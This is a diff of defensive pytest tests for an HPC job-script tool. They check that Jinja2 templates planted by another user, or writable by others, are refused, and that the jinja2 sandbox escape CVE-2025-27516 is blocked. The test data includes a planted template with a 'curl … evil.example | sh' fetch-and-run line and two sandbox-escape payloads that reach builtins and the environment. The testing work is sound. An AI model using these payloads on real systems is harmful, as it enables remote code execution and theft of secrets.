@@ -23,7 +23,7 @@ from unix_users import UnixUser, mallory, shared
 
 from hpc_elastic import cli
 from hpc_elastic.commands import submit as submit_command
-from hpc_elastic.errors import UsageError
+from hpc_elastic.errors import TemplateError, UsageError
 from hpc_elastic.jobdir import make_private_dir, write_private
 from hpc_elastic.rendezvous.secret import read_secret_file
 
@@ -164,3 +164,110 @@ def test_run_refuses_a_job_directory_swapped_before_its_agents_start(
     with pytest.raises(UsageError, match=f"^Job directory '{job.job_dir}' is not trusted because"):
         job.execute()
     assert not (job.job_dir / "logs").exists(), "an agent was started in her directory"
+
+
+# --- 3. Templates planted beside the user's, or named by the user's config ------------------
+
+PLANTED = (
+    "{% block shape %}{% endblock %}\ncurl -s https://evil.example/x | sh\n"
+    "{% block launch %}{% endblock %}\n"
+)
+
+
+def render_with(args: list[str]) -> tuple[int, str, str]:
+    result = CliRunner().invoke(cli.app, ["render", *args, "train.py"])
+    return result.exit_code, result.stdout, result.stderr
+
+
+def test_a_base_template_planted_beside_the_users_template_is_never_used(
+    mallory: UnixUser, shared: Path, submitting: FakeSlurm
+) -> None:
+    del submitting  # for its project directory
+    templates = shared / "project" / "templates"
+    templates.mkdir()
+    templates.chmod(0o1777)  # shared with the group; sticky, so nobody can replace ours
+    mine = templates / "mine.sh.j2"
+    mine.write_text('{% extends "elastic.sh.j2" %}\n')
+    mallory.sh(f"cat > {templates / 'base.sh.j2'} <<'EOF'\n{PLANTED}EOF\n")
+    code, stdout, stderr = render_with([f"--template={mine}"])
+    assert code == 0, stderr
+    assert "curl" not in stdout
+    assert "#SBATCH --array=0-0" in stdout
+
+
+@pytest.mark.parametrize("how", ["named by the config", "included by the user's template"])
+def test_a_template_of_another_user_is_refused(
+    mallory: UnixUser, shared: Path, submitting: FakeSlurm, tmp_path: Path, how: str
+) -> None:
+    del submitting  # for its project directory
+    project = shared / "project"
+    hers = project / "helpers.sh.j2"
+    mallory.sh(f"cat > {hers} <<'EOF'\n{PLANTED}EOF\n")
+    if how == "named by the config":
+        (tmp_path / "hpc-elastic.toml").write_text(f'template = "{hers}"\n')
+    else:
+        mine = project / "mine.sh.j2"
+        mine.write_text(
+            '{% extends "elastic.sh.j2" %}{% block launch %}{% include "helpers.sh.j2" %}'
+            "{% endblock %}\n"
+        )
+        (tmp_path / "hpc-elastic.toml").write_text(f'template = "{mine}"\n')
+    code, stdout, stderr = render_with([])
+    assert code == 2, stdout
+    line = one_error_line(stderr)
+    assert f"'{hers}' is not trusted because it is owned by user id {mallory.uid}" in line
+    assert "curl" not in stdout
+
+
+def test_a_template_others_may_write_is_refused(submitting: FakeSlurm, tmp_path: Path) -> None:
+    del submitting  # for its project directory
+    mine = tmp_path / "mine.sh.j2"
+    mine.write_text('{% extends "elastic.sh.j2" %}\n')
+    mine.chmod(0o666)
+    code, _, stderr = render_with([f"--template={mine}"])
+    assert code == 2
+    assert "group or others may write it (mode 0666)" in one_error_line(stderr)
+
+
+# --- 4. The sandbox escape of jinja2 3.1.5 (CVE-2025-27516) ---------------------------------
+
+ATTR_FORMAT_ESCAPES = [
+    # Verbatim from the fix's own test (pallets/jinja, GHSA-cpwx-vrp4-4pq7).
+    '{{ "{0.__call__.__builtins__[__import__]}" | attr("format")(not_here) }}',
+    # The same bypass, reading the login node's environment through a built-in global.
+    '{{ "{0.__globals__[os].environ}" | attr("format")(lipsum) }}',
+]
+
+
+@pytest.mark.parametrize("escape", ATTR_FORMAT_ESCAPES)
+def test_the_attr_format_sandbox_escape_is_refused(
+    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, escape: str
+) -> None:
+    from dataclasses import replace  # noqa: PLC0415
+
+    from test_render import CONTEXT, ELASTIC  # noqa: PLC0415
+
+    from hpc_elastic.render import render  # noqa: PLC0415
+
+    monkeypatch.setenv("HPC_ELASTIC_TEST_TOKEN", "tok-from-the-login-node")
+    template = tmp_path / "mine.sh.j2"
+    template.write_text(escape + "\n")
+
+    def attack() -> None:
+        leaked = render(replace(ELASTIC, template=template), CONTEXT).text
+        pytest.fail(f"the template escaped the sandbox: {leaked[:300]}")
+
+    with pytest.raises(TemplateError, match="tried something the template sandbox forbids") as no:
+        attack()
+    assert "tok-from-the-login-node" not in str(no.value)
+
+
+def test_the_installed_jinja2_is_not_one_the_escape_works_on() -> None:
+    import jinja2  # noqa: PLC0415
+
+    installed = tuple(int(part) for part in jinja2.__version__.split(".")[:3])
+    assert installed >= (3, 1, 6), jinja2.__version__
+    requirement = [
+        line for line in (REPO / "pyproject.toml").read_text().splitlines() if "jinja2" in line
+    ]
+    assert requirement == ['  "jinja2>=3.1.6",'], requirement
